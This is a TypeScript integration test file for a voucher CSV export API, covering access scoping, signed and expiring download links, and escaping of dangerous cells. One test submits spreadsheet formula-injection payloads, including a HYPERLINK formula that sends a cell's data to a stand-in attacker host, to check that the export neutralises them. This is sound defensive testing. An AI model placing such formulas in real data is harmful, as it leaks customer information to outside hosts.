import crypto from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { csvText, csvTextSql } from '../../../platform/csv-writer';
import { seedOffer, validOffer } from '../../setup/fixtures';
import { eventually } from '../../setup/eventually';
import { type Harness, harnessWithKeys } from '../../setup/harness';
import { DIST, SUB } from '../../setup/paths';
import { BulkJobKey } from '../../../workflows/shared/search-attributes';

/*
 * Voucher exports (issue 36 item 3): the CSV read back through its signed link and compared with
 * the vouchers as the API shows them; a publisher's export holds its own vouchers only.
 */

type Row = Record<string, string>;

describe('voucher exports', () => {
  let h: Harness;
  let dist: string;
  let otherDist: string;
  let sub: { key: string; clientId: string };
  beforeAll(async () => {
    ({ h, dist, sub } = await harnessWithKeys());
    otherDist = await h.key('distribution');
  });
  afterAll(() => h.close());

  const call = (method: 'GET' | 'POST' | 'PUT', url: string, key?: string, payload?: unknown, headers: Record<string, string> = {}) =>
    h.app.inject({
      method,
      url,
      headers: { ...(key ? { 'x-service-api-key': key } : {}), ...headers },
      ...(payload === undefined ? {} : { payload: payload as object }),
    });
  const buy = async (key: string, offerId: string, quantity: number) => {
    const res = await call('POST', `${DIST}/orders`, key, {
      order: {
        order_number: `x-${Math.random().toString(36).slice(2)}`,
        customer_name: 'Ada Lovelace',
        items: [{ offer_id: offerId, quantity }],
      },
    });
    expect(res.statusCode).toBe(200);
    return res.json().order as { id: string; vouchers: { id: string; redemption_code: string }[] };
  };
  /** Asks for an export and waits for it to complete; answers it and its CSV's rows. */
  const exportOf = async (base: string, key: string, offerId: string) => {
    const started = await call('POST', `${base}/offers/${offerId}/voucher_exports`, key);
    expect(started.statusCode).toBe(202);
    const { id } = started.json().voucher_export as { id: string };
    expect(started.json().voucher_export).toMatchObject({ status: 'queued', rows: 0, download_url: null, expires_at: null });
    const done = await eventually(`export ${id} completed`, async () => {
      const e = (await call('GET', `${base}/voucher_exports/${id}`, key)).json().voucher_export;
      return e.status === 'completed' && e;
    });
    const url = new URL(done.download_url as string);
    const file = await h.app.inject({ method: 'GET', url: `${url.pathname}${url.search}` });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toMatch(/^text\/csv/);
    return { exp: done, url, rows: parse(file.body, { columns: true }) as Row[] };
  };

  const codes = (n: number) => Array.from({ length: n }, (_, i) => ({ redemption_code: `EXP-${i + 1}`, barcode: `EXPBC${i + 1}` }));

  it("an advertiser's export holds every voucher (status, customer, dates, redemptions) and every code not issued yet", async () => {
    const offerId = await seedOffer(h, sub.clientId, {
      initial_quantity: undefined,
      vouchers: codes(6),
      advertiser: { ...(validOffer().advertiser as object), name: 'Export Foods' },
    });
    const mine = await buy(dist, offerId, 2);
    const theirs = await buy(otherDist, offerId, 1);
    const redeemed = await call('PUT', `${DIST}/offers/${offerId}/vouchers/${mine.vouchers[0].id}`, dist, {
      voucher: { status: 'redeemed' },
    });
    expect(redeemed.statusCode).toBe(200);

    const { exp, rows } = await exportOf(SUB, sub.key, offerId);
    expect(exp.rows).toBe(6);
    expect(rows).toHaveLength(6);
    const listed = (await call('GET', `${SUB}/offers/${offerId}/vouchers?per_page=100`, sub.key)).json().vouchers as Row[];
    expect(listed).toHaveLength(3);
    for (const v of listed) {
      const row = rows.find((r) => r.voucher_id === v.id)!;
      expect(row).toMatchObject({
        redemption_code: v.redemption_code,
        barcode: v.barcode,
        status: v.status,
        customer_name: 'Ada Lovelace',
        acquired_at: new Date(v.acquired_at).toISOString(),
        redeemed_at: v.redeemed_at ? new Date(v.redeemed_at).toISOString() : '',
        redemptions: v.status === 'redeemed' ? '1' : '0',
      });
    }
    const available = rows.filter((r) => r.status === 'available').map((r) => r.redemption_code);
    expect(available.sort()).toEqual(['EXP-4', 'EXP-5', 'EXP-6']);
    expect(
      rows
        .filter((r) => r.voucher_id)
        .map((r) => r.voucher_id)
        .sort(),
    ).toEqual([...mine.vouchers, ...theirs.vouchers].map((v) => v.id).sort());
  });

  it("a publisher's export holds its own vouchers of the offer, and nobody else reads the export", async () => {
    const offerId = await seedOffer(h, sub.clientId, { initial_quantity: 20 });
    const mine = await buy(dist, offerId, 3);
    await buy(otherDist, offerId, 2);
    const { exp, rows } = await exportOf(DIST, dist, offerId);
    expect(rows.map((r) => r.voucher_id).sort()).toEqual(mine.vouchers.map((v) => v.id).sort());
    expect(rows.every((r) => r.status === 'acquired')).toBe(true);
    expect((await call('GET', `${DIST}/voucher_exports/${exp.id}`, otherDist)).statusCode).toBe(404);
    expect((await call('GET', `${SUB}/voucher_exports/${exp.id}`, sub.key)).statusCode).toBe(404);
    // `temporal workflow list --query "BulkJob='voucher_export'"` finds it.
    const listed = await eventually('the export in the BulkJob listing', async () => {
      for await (const w of h.services.temporal.workflow.list({ query: `BulkJob='voucher_export'` }))
        if (w.workflowId === `voucher-export:${exp.id}`) return w;
      return undefined;
    });
    expect(listed.typedSearchAttributes.get(BulkJobKey)).toBe('voucher_export');
    // XML too.
    const xml = await call('GET', `${DIST}/voucher_exports/${exp.id}`, dist, undefined, { accept: 'application/xml' });
    expect(xml.statusCode).toBe(200);
    expect(xml.body).toContain('<status>completed</status>');
  });

  it('the link is signed and expires: a wrong signature is 404, an expired one 410; another advertiser cannot export', async () => {
    const offerId = await seedOffer(h, sub.clientId, { initial_quantity: 5 });
    const { url } = await exportOf(SUB, sub.key, offerId);
    const expires = url.searchParams.get('expires')!;
    const forged = `${url.pathname}?expires=${Number(expires) + 3600}&signature=${url.searchParams.get('signature')}`;
    expect((await h.app.inject({ method: 'GET', url: forged })).statusCode).toBe(404);
    // A link signed right but past its time: 410, read the export again for a new one.
    const id = url.pathname.split('/').pop()!;
    const { signing_key } = await h.services.db
      .selectFrom('voucher_exports')
      .select('signing_key')
      .where('id', '=', id)
      .executeTakeFirstOrThrow();
    const past = Math.floor(Date.now() / 1000) - 10;
    const signature = crypto.createHmac('sha256', signing_key).update(`${id}.${past}`).digest('base64url');
    expect((await h.app.inject({ method: 'GET', url: `${url.pathname}?expires=${past}&signature=${signature}` })).statusCode).toBe(410);
    const other = await h.key('submission');
    expect((await call('POST', `${SUB}/offers/${offerId}/voucher_exports`, other)).statusCode).toBe(404);
    expect((await call('POST', `${DIST}/offers/ofr_nothing/voucher_exports`, dist)).statusCode).toBe(404);
  });

  it("a publisher's export of an offer it cannot see is 404, as GET of that offer is (pending, or exclusive to another)", async () => {
    const pending = await seedOffer(h, sub.clientId, { initial_quantity: 5 }, 'pending');
    const insider = await h.client('distribution');
    const theirs = await seedOffer(h, sub.clientId, {
      initial_quantity: 5,
      exclusivity: { exclusive: true, channels: [insider.clientId] },
    });
    for (const offerId of [pending, theirs]) {
      const read = await call('GET', `${DIST}/offers/${offerId}`, dist);
      expect(read.statusCode).toBe(404);
      const started = await call('POST', `${DIST}/offers/${offerId}/voucher_exports`, dist);
      expect({ offerId, status: started.statusCode, errors: started.json().errors }).toEqual({
        offerId,
        status: 404,
        errors: read.json().errors,
      });
    }
    // The publisher it is exclusive to exports it.
    expect((await call('POST', `${DIST}/offers/${theirs}/voucher_exports`, insider.key)).statusCode).toBe(202);
  });

  it("a customer's name written as a formula comes out as text in the advertiser's export, as the one CSV writer writes it", async () => {
    const offerId = await seedOffer(h, sub.clientId, { initial_quantity: 10 });
    const names = ['=HYPERLINK("http://evil.example/?leak="&B2,"Click me")', '@SUM(A1:A9)', '+SUM(A1)', '-A1+B1'];
    for (const name of names) {
      const res = await call('POST', `${DIST}/orders`, dist, {
        order: {
          order_number: `inj-${Math.random().toString(36).slice(2)}`,
          customer_name: name,
          items: [{ offer_id: offerId, quantity: 1 }],
        },
      });
      expect(res.statusCode).toBe(200);
    }
    const { rows } = await exportOf(SUB, sub.key, offerId);
    expect(rows.map((r) => r.customer_name).sort()).toEqual(names.map((n) => `'${n}`).sort());
    // Postgres writes the export's cells by the writer's own rule: the same bytes for every first character it guards.
    for (const value of [...names, '\t=1', '\r=1', '\uFF20x', 'plain "quoted", text', '']) {
      const { rows: cells } = await sql<{
        cell: string;
      }>`select ${sql.raw(csvTextSql('x.v'))} as cell from (select ${value}::text as v) x`.execute(h.services.db);
      expect(`${cells[0].cell}\n`).toBe(csvText([[value]], { quoteText: true }));
    }
  });
});
